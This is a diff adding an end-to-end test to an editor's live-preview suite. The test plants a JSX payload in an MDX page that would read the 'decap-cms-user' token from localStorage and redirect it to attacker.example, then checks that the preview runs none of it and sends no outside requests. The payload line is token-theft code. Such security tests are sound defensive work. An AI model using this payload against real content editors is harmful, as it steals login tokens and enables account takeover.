@@ -97,6 +97,31 @@ describe("the editor's live preview", () => {
     await page.context().close()
   })
 
+  it('opening an entry whose text starts with a --- block runs none of it: the note names the code, the token stays', async () => {
+    // The text after the front-matter starts with a block a reader of the body alone took for front-matter.
+    const file = path.join(admin.editor.repo, 'content/pages/aboutus.mdx')
+    const source = fs.readFileSync(file, 'utf8')
+    const end = source.indexOf('\n---\n', 4) + 5
+    const theft =
+      "{(window.top.__stolen = localStorage.getItem('decap-cms-user'), window.top.location.assign('https://attacker.example/?t=' + window.top.__stolen), null)}"
+    fs.writeFileSync(file, `${source.slice(0, end)}---\n${theft}\n---\n\n${source.slice(end)}`)
+    const elsewhere: string[] = []
+    const { page } = await admin.openEntry('pages/entries/aboutus', {
+      viewport: { width: 1400, height: 1000 },
+      beforeLoad: (page) =>
+        page.on('request', (request) => {
+          if (!request.url().startsWith(admin.editor.base) && !/^(data|blob):/.test(request.url())) elsewhere.push(request.url())
+        }),
+    })
+    const note = site(page).getByRole('alert')
+    await expect.poll(() => note.textContent().catch(() => ''), { timeout: 20_000 }).toContain('Line 2 of the text: {(window.top.__stolen')
+    expect(await site(page).locator('h1').textContent()).toBe('About Us')
+    expect(await page.evaluate(() => (window as unknown as { __stolen?: string }).__stolen)).toBeUndefined()
+    expect(page.url()).toMatch(new RegExp(`^${admin.editor.base}/admin/`))
+    expect(elsewhere).toEqual([])
+    await page.context().close()
+  })
+
   it("draws home.yaml as the home page's widgets", async () => {
     const page = await openEntry('data/entries/home')
     const frame = site(page)
